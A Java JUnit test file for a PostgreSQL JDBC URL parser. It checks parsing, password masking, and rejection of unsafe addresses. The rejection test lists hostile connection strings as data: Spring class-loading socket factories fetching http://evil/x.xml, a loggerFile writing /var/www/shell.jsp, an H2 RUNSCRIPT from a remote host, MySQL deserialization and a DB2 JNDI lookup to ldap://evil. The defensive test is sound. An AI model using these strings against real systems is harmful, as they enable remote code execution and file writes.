package io.millrace.connectors.jdbc.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class PostgresUrlTest {
    @Test
    void keepsHostsDatabaseAndAllowedProperties() {
        // When
        PostgresUrl url = PostgresUrl.parse(
                "jdbc:postgresql://a:5432,[::1]:1/my%20db?SSLMODE=require&currentSchema=mart&tcpKeepAlive=true");

        // Then
        assertThat(url.hosts()).containsExactly("a:5432", "[::1]:1");
        assertThat(url.database()).isEqualTo("my db");
        assertThat(url.driverUrl()).isEqualTo("jdbc:postgresql://a:5432,[::1]:1/my+db");
        assertThat(url.properties()).containsEntry("sslmode", "require").containsEntry("currentSchema", "mart");
    }

    @Test
    void takesADatabaseOfThisHost() {
        assertThat(PostgresUrl.parse("jdbc:postgresql:shop").driverUrl()).isEqualTo("jdbc:postgresql://localhost/shop");
    }

    @Test
    void neverShowsAPassword() {
        assertThat(PostgresUrl.parse("jdbc:postgresql://a/b?user=u&password=secret")
                        .toString())
                .doesNotContain("secret");
    }

    @ParameterizedTest
    @MethodSource("hostileAddresses")
    void refusesAddressesThatCouldLoadClassesOrWriteFiles(String address) {
        assertThatThrownBy(() -> PostgresUrl.parse(address)).isInstanceOf(IllegalArgumentException.class);
    }

    static List<String> hostileAddresses() {
        String spring = "org.springframework.context.support.ClassPathXmlApplicationContext";
        return List.of(
                "jdbc:postgresql://h/d?socketFactory=" + spring + "&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?SOCKETFACTORY=" + spring,
                "jdbc:postgresql://h/d?socket%46actory=" + spring,
                "jdbc:postgresql://h/d?sslmode=require&sslfactory=" + spring + "&sslfactoryarg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslhostnameverifier=" + spring,
                "jdbc:postgresql://h/d?sslpasswordcallback=" + spring,
                "jdbc:postgresql://h/d?authenticationPluginClassName=" + spring,
                "jdbc:postgresql://h/d?xmlFactoryFactory=" + spring,
                "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/var/www/shell.jsp",
                "jdbc:postgresql://h/d?loggerFile=../../x",
                "jdbc:postgresql://h/d?service=evil",
                "jdbc:postgresql://h/d?jaasApplicationName=x&jaasLogin=true",
                "jdbc:postgresql://h/d?kerberosServerName=x",
                "jdbc:postgresql://h/d?gsslib=x",
                "jdbc:postgresql://h/d?options=-c%20search_path%3Devil",
                "jdbc:postgresql://h/d?replication=database",
                "jdbc:postgresql://h/d?preferQueryMode=simple",
                "jdbc:postgresql://h/d?allowEncodingChanges=true",
                "jdbc:postgresql://h/d?stringtype=unspecified",
                "jdbc:postgresql://h/d?localSocketAddress=1.2.3.4",
                "jdbc:postgresql://h/d?user=a&user=b",
                "jdbc:postgresql://h/d?user=a&%75ser=b",
                "jdbc:postgresql://h/d?=x",
                "jdbc:postgresql://h/d?%00=x",
                "jdbc:postgresql://h/d?user=%zz",
                "jdbc:postgresql://h/d/?socketFactory=" + spring,
                "jdbc:postgresql://h/d%2Fe",
                "jdbc:postgresql://h/d%00",
                "jdbc:postgresql://h/",
                "jdbc:postgresql://h",
                "jdbc:postgresql:",
                "jdbc:postgresql://user:password@h/d",
                "jdbc:postgresql://h:99999/d",
                "jdbc:postgresql://h:0/d",
                "jdbc:postgresql://h:x/d",
                "jdbc:postgresql://h;DROP/d",
                "jdbc:postgresql://h h/d",
                "jdbc:postgresql://(description=(address=x))/d",
                "jdbc:postgresql://h\n/d",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:derby:x;create=true",
                "jdbc:oracle:thin:@h:1521:x",
                "jdbc:db2://h/d:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:postgresqlx://h/d",
                " ldap://evil/x",
                "postgresql://h/d",
                "",
                "jdbc:postgresql://h/d?user=" + "x".repeat(5_000));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?reWriteBatchedInserts=true",
                " jdbc:postgresql://h/d ",
                "JDBC:postgresql://h/d"
            })
    void takesWhatConfigurationsCommonlyHold(String address) {
        assertThat(PostgresUrl.parse(address).database()).isEqualTo("d");
    }
}
